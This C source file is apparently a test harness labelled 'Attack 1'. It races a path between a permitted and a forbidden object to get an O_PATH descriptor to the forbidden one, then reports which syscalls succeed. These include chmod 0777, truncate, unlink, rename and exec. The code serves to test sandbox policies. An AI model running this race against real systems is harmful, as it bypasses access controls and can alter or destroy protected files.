/* SPDX-License-Identifier: ISC */
/*
 * Attack 1, with O_PATH, which the kernel opens for the program: the path
 * flips between a permitted and a forbidden object until a descriptor of the
 * forbidden one is had, which its inode's number in fdinfo tells. Then
 * everything that takes such a descriptor is tried: a line each, the errno.
 *
 * usage: path-only file|folder path-of-permitted letter-of-forbidden inode
 */
#include <sys/inotify.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <sys/xattr.h>

#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define TRIES 2000000

#ifndef SYS_fchmodat2
#define SYS_fchmodat2 452
#endif

static char path[PATH_MAX];
static volatile char *letter;
static char letters[2];
static atomic_bool over;
static int fd;
static char link_of[64], below[80];

static void *
flip(void *p)
{
	unsigned int i = 0;

	(void)p;
	while (!atomic_load_explicit(&over, memory_order_relaxed))
		*letter = letters[i++ & 1];
	return NULL;
}

static unsigned long
inode_of(int number)
{
	char name[64], line[128];
	unsigned long inode = 0;
	FILE *fp;

	(void)snprintf(name, sizeof(name), "/proc/self/fdinfo/%d", number);
	fp = fopen(name, "re");
	if (fp == NULL)
		err(1, "%s", name);
	while (fgets(line, sizeof(line), fp) != NULL)
		if (sscanf(line, "ino: %lu", &inode) == 1)
			break;
	(void)fclose(fp);
	return inode;
}

/* Wins the race: `fd` is of the forbidden one. */
static bool
win(unsigned long inode)
{
	pthread_t flipper;
	unsigned long i;

	if (pthread_create(&flipper, NULL, flip, NULL) != 0)
		errx(1, "no thread");
	for (i = 0; i < TRIES; i++) {
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd != -1 && inode_of(fd) == inode)
			break;
		if (fd != -1)
			close(fd);
		else if (errno != EIO)
			err(1, "open");
	}
	atomic_store(&over, 1);
	(void)pthread_join(flipper, NULL);
	return i < TRIES;
}

static void
say(const char *what, long result)
{
	printf("%s %s\n", what, result == -1 ? strerrorname_np(errno) : "done");
	(void)fflush(stdout);
}

static long
execute(bool by_name)
{
	char *const argv[] = { link_of, NULL }, *const envp[] = { NULL };
	int status = 0;
	pid_t pid;

	pid = fork();
	if (pid == 0) {
		if (by_name)
			execve(link_of, argv, envp);
		else
			syscall(SYS_execveat, fd, "", argv, envp,
			    AT_EMPTY_PATH);
		_exit(errno);
	}
	if (waitpid(pid, &status, 0) != pid)
		err(1, "waitpid");
	errno = WIFEXITED(status) ? WEXITSTATUS(status) : 0;
	return errno == 0 ? 0 : -1;
}

/* Also what would have to be open for it: the policy is asked first. */
static void
try_object(void)
{
	const struct timespec now[2] = { { 1, 0 }, { 1, 0 } };
	struct file_handle *handle = calloc(1, sizeof(*handle) + 128);
	struct statfs fs;
	struct statx stx;
	struct stat st;
	int mount, watch = inotify_init1(IN_CLOEXEC);

	if (handle == NULL || watch == -1)
		err(1, "inotify");
	handle->handle_bytes = 128;
	say("fstat", syscall(SYS_fstat, fd, &st));
	say("newfstatat", fstatat(fd, "", &st, AT_EMPTY_PATH));
	say("statx", statx(fd, "", AT_EMPTY_PATH, STATX_ALL, &stx));
	say("stat-proc", stat(link_of, &st));
	say("fstatfs", fstatfs(fd, &fs));
	say("statfs-proc", statfs(link_of, &fs));
	say("faccessat2", syscall(SYS_faccessat2, fd, "", R_OK, AT_EMPTY_PATH));
	say("access-proc", access(link_of, R_OK));
	say("name_to_handle_at",
	    name_to_handle_at(fd, "", handle, &mount, AT_EMPTY_PATH));
	say("open-proc", open(link_of, O_RDONLY));
	say("open-proc-path", open(link_of, O_PATH));
	say("open-self-fd", openat(AT_FDCWD, link_of, O_RDWR));
	say("chmod-proc", chmod(link_of, 0777));
	say("fchmod", fchmod(fd, 0777));
	say("fchmodat2", syscall(SYS_fchmodat2, fd, "", 0777, AT_EMPTY_PATH));
	say("fchown", fchown(fd, -1, -1));
	say("fchownat", fchownat(fd, "", -1, -1, AT_EMPTY_PATH));
	say("chown-proc", chown(link_of, -1, -1));
	say("utimensat", utimensat(fd, "", now, AT_EMPTY_PATH));
	say("futimens", syscall(SYS_utimensat, fd, NULL, now, 0));
	say("setxattr-proc", setxattr(link_of, "user.x", "y", 1, 0));
	say("getxattr-proc", getxattr(link_of, "user.x", below, 0));
	say("inotify-proc", inotify_add_watch(watch, link_of, IN_ALL_EVENTS));
	free(handle);
}

static void
try_file(void)
{
	say("truncate-proc", truncate(link_of, 0));
	say("linkat", linkat(fd, "", AT_FDCWD, "new", AT_EMPTY_PATH));
	say("linkat-proc",
	    linkat(AT_FDCWD, link_of, AT_FDCWD, "new", AT_SYMLINK_FOLLOW));
	say("execveat", execute(false));
	say("execve-proc", execute(true));
}

static void
try_socket(const char *what, bool binds)
{
	struct sockaddr_un sun = { .sun_family = AF_UNIX };
	int sock = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	(void)snprintf(sun.sun_path, sizeof(sun.sun_path), "%s/%s", link_of,
	    binds ? "new" : "f");
	say(what,
	    binds ? bind(sock, (void *)&sun, sizeof(sun)) :
		    connect(sock, (void *)&sun, sizeof(sun)));
	close(sock);
}

static void
try_folder(void)
{
	struct stat st;

	say("fchdir", fchdir(fd));
	say("chdir-proc", chdir(link_of));
	say("openat", openat(fd, "f", O_RDONLY));
	say("openat-dot", openat(fd, ".", O_RDONLY));
	say("openat-path", openat(fd, "f", O_PATH));
	say("openat-create", openat(fd, "new", O_CREAT | O_WRONLY, 0600));
	say("openat-tmpfile", openat(fd, ".", O_TMPFILE | O_WRONLY, 0600));
	say("open-proc-below", open(below, O_RDONLY));
	say("fstatat", fstatat(fd, "f", &st, 0));
	say("faccessat", faccessat(fd, "f", F_OK, 0));
	say("readlinkat", readlinkat(fd, "l", below + 70, 1));
	say("mkdirat", mkdirat(fd, "new", 0700));
	say("mknodat", mknodat(fd, "new", S_IFIFO | 0600, 0));
	say("symlinkat", symlinkat("x", fd, "new"));
	say("linkat-out", linkat(fd, "f", AT_FDCWD, "new", 0));
	say("renameat-out", renameat(fd, "f", AT_FDCWD, "new"));
	say("unlinkat", unlinkat(fd, "f", 0));
	try_socket("bind", true);
	try_socket("connect", false);
}

int
main(int argc, char *argv[])
{
	if (argc != 5)
		errx(2, "usage: path-only file|folder path letter inode");
	(void)snprintf(path, sizeof(path), "%s", argv[2]);
	letter = path + strlen(path) - 1;
	letters[0] = *letter;
	letters[1] = argv[3][0];
	if (!win(strtoul(argv[4], NULL, 10)))
		errx(1, "the race was not won");
	(void)snprintf(link_of, sizeof(link_of), "/proc/self/fd/%d", fd);
	(void)snprintf(below, sizeof(below), "%s/f", link_of);
	try_object();
	if (strcmp(argv[1], "file") == 0)
		try_file();
	else
		try_folder();
	return 0;
}
